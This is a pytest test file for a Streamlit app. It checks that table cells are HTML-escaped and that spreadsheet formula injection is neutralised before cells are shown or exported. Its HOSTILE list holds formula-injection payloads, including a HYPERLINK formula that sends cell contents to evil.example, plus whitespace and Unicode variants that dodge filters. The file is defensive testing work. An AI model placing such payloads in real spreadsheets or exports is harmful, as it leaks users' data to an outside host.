"""What a page lets one download is as safe as an export."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

import app
from app.pages import tables
from data.spreadsheets import csv_cell, read_cell
from tests.sources import nodes

ROOT = Path(app.__file__).parent
OFFER_FILES = {"dataframe", "data_editor", "download_button", "to_csv", "to_excel"}
"""Calls by which a page, or its toolbar, gives cells away as a file."""
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-1+1", "@SUM(A1)", "\t=1", "\u00a0=1", "＝1", "  =1", "'=1", "\ufeff=1"]


def test_only_one_place_of_the_app_offers_cells_as_a_file() -> None:
    found = []
    for path in sorted(ROOT.rglob("*.py")):
        for node in nodes(path):
            called = node.func.attr if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) else ""
            if called in OFFER_FILES or (called in ("write", "table") and "DataFrame" in ast.unparse(node)):
                found.append((path.relative_to(ROOT).as_posix(), called))
    assert found == [("pages/tables.py", "dataframe")]


def test_only_one_place_of_the_pages_makes_markup_of_tables() -> None:
    found = [path.name for path in sorted((ROOT / "pages").rglob("*.py")) if "<table" in path.read_text(encoding="utf-8")]
    assert found == ["tables.py"]


def test_a_table_that_is_read_says_its_columns_and_interprets_no_word() -> None:
    told = tables.table(["Who", "Steps"], [["<b>A</b>", 3], [None, 4]], numbers=[1], last=True)
    assert told == (
        '<div class="told"><table><thead><tr><th scope="col">Who</th><th scope="col" class="n">Steps</th></tr></thead><tbody>'
        '<tr><td>&lt;b&gt;A&lt;/b&gt;</td><td class="n">3</td></tr><tr class="sum"><td></td><td class="n">4</td></tr></tbody></table></div>'
    )


def test_markup_in_cells_is_taken_only_where_it_is_said() -> None:
    assert "<td><i>1</i></td>" in tables.table(["<A>"], [["<i>1</i>"]], html=True)
    assert "&lt;A&gt;" in tables.table(["<A>"], [["<i>1</i>"]], html=True)


def drawn(words: list[str]) -> None:
    import pandas as pd

    from app.pages.tables import grid

    grid(pd.DataFrame({"Answer": words, "Seconds": range(len(words)), "Kind": pd.Categorical(words)}), hide_index=True)


def test_no_word_in_a_table_of_a_page_is_a_formula() -> None:
    test = AppTest.from_function(drawn, kwargs={"words": [*HOSTILE, "plain"]}, default_timeout=30).run()
    assert not test.exception
    shown = test.dataframe[0].value
    assert list(shown["Answer"]) == list(shown["Kind"]) == [f"'{word}" for word in HOSTILE] + ["plain"]
    assert list(shown["Seconds"]) == list(range(len(HOSTILE) + 1))


@pytest.mark.parametrize("text", [*HOSTILE, "", "plain", "'", "''", "it's", "a=b", "\r\n", "x\t=1", "–1"])
def test_what_is_escaped_can_be_read_again(text: str) -> None:
    assert read_cell(csv_cell(text)) == text
